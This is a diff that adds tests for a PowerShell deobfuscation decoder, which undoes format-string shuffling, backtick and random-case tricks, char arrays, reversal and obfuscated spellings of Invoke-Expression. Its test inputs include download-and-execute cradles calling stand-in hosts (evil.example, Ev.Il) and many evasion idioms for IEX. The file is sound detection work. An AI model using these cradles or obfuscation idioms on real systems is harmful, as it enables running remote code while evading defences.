@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import base64
 import gzip
+import random
 import time
 import zlib
 
@@ -279,3 +280,154 @@ def test_any_printable_script_comes_back_from_encodedcommand(script: str) -> Non
     step = powershell.decode_encoded_command(f"powershell -enc {enc(script)}", Budget())
     assert step is not None
     assert step.text == f"powershell -Command {script}"
+
+
+def test_format_with_shuffled_pieces() -> None:
+    script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
+    pieces = [script[start : start + 5] for start in range(0, len(script), 5)]
+    order = random.Random(7).sample(range(len(pieces)), len(pieces))
+    template = "".join(f"{{{order.index(index)}}}" for index in range(len(pieces)))
+    arguments = ",".join(powershell.render(pieces[index]) or "" for index in order)
+    techniques, decoded = peel(f'iex ("{template}" -f {arguments})')
+    assert techniques == ["powershell-format", "powershell-iex"]
+    assert decoded == script
+
+
+@pytest.mark.parametrize(
+    "invoker",
+    [
+        "&( $PSHome[4]+$PSHome[30]+'x')",
+        ".( $PSHome[21]+$PSHome[34]+'x')",
+        "& ( $ShellId[1]+$ShellId[13]+'x')",
+        "&( $env:Public[13]+$env:Public[5]+'x')",
+        ".( $env:ComSpec[4,15,25]-Join'')",
+        "&( $env:ComSpec[4,24,25]-Join'')",
+        "& ((Get-Variable '*mdr*').Name[3,11,2]-Join'')",
+        ".( (GV '*mdr*').Name[3,11,2]-Join'')",
+        "&( $VerbosePreference.ToString()[1,3]+'x'-Join'')",
+        ".( ([String]$VerbosePreference)[1,3]+'x'-Join'')",
+        "& (Get-Command *ke-e*)",
+        "&('ie'+'x')",
+    ],
+)
+def test_the_spellings_of_iex_built_from_automatic_variables(invoker: str) -> None:
+    assert peel(f"{invoker} ('{SCRIPT}')")[1] == SCRIPT
+
+
+def test_an_iex_spelling_is_named_even_when_its_argument_is_unknown() -> None:
+    techniques, decoded = peel("powershell $env:I4Pzl|.(Get-C`ommand ('{1}e{0}'-f'x','i'))")
+    assert techniques == ["powershell-backtick", "powershell-format", "powershell-iex"]
+    assert decoded == "powershell $env:I4Pzl|iex"
+
+
+def test_variables_assigned_once_are_followed() -> None:
+    text = f"$a='I'; $b='EX'; $c='{SCRIPT}'; &($a+$b) $c"
+    techniques, decoded = peel(text)
+    assert techniques == ["powershell-concat", "powershell-iex"]
+    assert decoded.endswith(f"; {SCRIPT}")
+
+
+def test_variables_assigned_twice_are_not_followed() -> None:
+    text = "$a='I'; if ($x) { $a='X' }; $a='I'; iex ($a+'EX')"
+    assert "iex" in peel(text)[1]
+
+
+def test_output_field_separator_joins_a_char_array() -> None:
+    codes = ",".join(str(ord(char)) for char in SCRIPT)
+    text = f"iex (\"$(Set-Item 'Variable:OFS' '')\" + [String]([char[]]({codes})) + \"$(sv 'OFS' ' ')\")"
+    assert peel(text)[1] == SCRIPT
+
+
+def test_member_names_quoted_with_backticks_become_names() -> None:
+    text = '$w."d`OWN`loAdfi`Le"($u, $p); [Net.ServicePointManager]::"SecURi`T`ypRO`T`oCOL" = \'Tls12\''
+    techniques, decoded = peel(text)
+    assert techniques == ["powershell-backtick", "powershell-case"]
+    assert decoded == "$w.DownloadFile($u, $p); [Net.ServicePointManager]::SecurityProtocol = 'Tls12'"
+
+
+def test_random_case_of_well_known_names_is_undone_and_strings_kept() -> None:
+    text = "iNVoKe-eXPreSSioN (NEw-oBjEcT NeT.WebCLIenT).dOWnLoaDStRiNg('http://Ev.Il/A') -JoIN ''"
+    step = powershell.decode_case(text, Budget())
+    assert step is not None and step.technique == "powershell-case"
+    assert step.text == (
+        "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://Ev.Il/A') -join ''"
+    )
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "ForEach ($item in $list) { If ($item) { $x.SubString(1) } ElseIf ($y) { Write-Host 'A' } }",
+        "Get-ChildItem -Path C:\\ | Select-Object Name; IEX $cmd; Invoke-Expression $Command",
+        "Write-Host 'rANDom CaSE inside a string' -ForegroundColor Green",
+    ],
+)
+def test_how_people_write_names_is_left_alone(text: str) -> None:
+    assert powershell.decode_case(text, Budget()) is None
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "$lines = $text.Split([char]13 + [char]10)",
+        "$letters = [char[]]'abc' | ForEach-Object { $_ }",
+        "$base = 'C:\\Tools'; $exe = $base + '\\tool.exe'; & $exe",
+        "$greeting = 'Hello, ' + 'World'",
+        "1..1000000 | ForEach-Object { $_ * 2 }",
+        "$x = -join $name",
+    ],
+)
+def test_plain_code_with_lookalike_constructs_is_left_alone(text: str) -> None:
+    for step in powershell.STEPS:
+        assert step(text, Budget()) is None, (step, text)
+
+
+def test_quoted_command_lines_are_read_as_code() -> None:
+    text = "cmd.exe /c powershell.exe -nop -c \"&('I'+'EX') ('{1}{0}' -f 'hi','Write-Host ')\""
+    techniques, decoded = peel(text)
+    assert techniques == ["powershell-concat", "powershell-format", "powershell-iex"]
+    assert decoded == 'cmd.exe /c powershell.exe -nop -c "Write-Host hi"'
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "(" * 5000 + "'a'" + ")" * 5000,
+        "[char]" * 3000 + "65",
+        "'a'" + ".ToString()" * 3000,
+        "<#" * 20000,
+        "@'\n" * 5000,
+        "|".join(["%{$_}"] * 3000),
+        "+".join(["'ab'"] * 20000),
+    ],
+)
+def test_deep_or_long_constructs_end_quickly(text: str) -> None:
+    started = time.monotonic()
+    result = decode(text, STEPS, Limits(max_seconds=1.0))
+    assert time.monotonic() - started < 3.0
+    assert result.original == text
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        "iex ('{r}'[-1..-{n}] -join '')",
+        "$x = '{r}'; iex (-join $x[-1..-{n}])",
+        "$x = '{r}'; iex (-join $x[-1..-($x.Length)])",
+        "Set-Variable 'k' ('{r}'); iex ((Get-Variable 'k').Value[-1..-{n}] -join '')",
+        "$c = [char[]]'{r}'; [array]::Reverse($c); iex (-join $c)",
+    ],
+)
+def test_every_reversal_idiom(template: str) -> None:
+    text = template.format(r=SCRIPT[::-1], n=len(SCRIPT))
+    techniques, decoded = peel(text)
+    assert techniques[0] == "powershell-reverse"
+    assert techniques[-1] == "powershell-iex"
+    assert decoded.endswith(SCRIPT)
+
+
+def test_backticks_of_a_unix_shell_are_command_substitution_and_stay() -> None:
+    for text in ("echo foo`id`bar", "tar czf backup-`date +%F`.tgz /etc", "ls `pwd`/dir"):
+        assert powershell.decode_backticks(text, Budget()) is None, text
+    step = powershell.decode_backticks("sh -c 'I`E`X'; Ne`w-Ob`ject x", Budget())
+    assert step is not None and step.text == "sh -c 'I`E`X'; New-Object x"
